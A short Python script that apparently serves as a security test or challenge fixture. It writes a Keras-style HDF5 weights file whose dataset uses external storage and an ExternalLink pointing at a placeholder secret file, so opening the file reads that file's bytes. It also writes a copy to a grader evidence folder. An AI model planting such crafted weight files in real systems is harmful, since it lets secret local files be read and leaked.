# %%
import os

import h5py

for folder in (".", os.environ["GRADER_EVIDENCE"]):
    with h5py.File(f"{folder}/autoencoder.weights.h5", "w") as file:
        file.create_dataset("layers/dense/vars/0", shape=(64,), dtype="u1", external=[("@SECRET_FILE@", 0, 64)])
        file["link"] = h5py.ExternalLink("@SECRET_FILE@", "/")
        try:
            print(bytes(file["layers/dense/vars/0"][:]))
        except OSError as error:
            print(error)
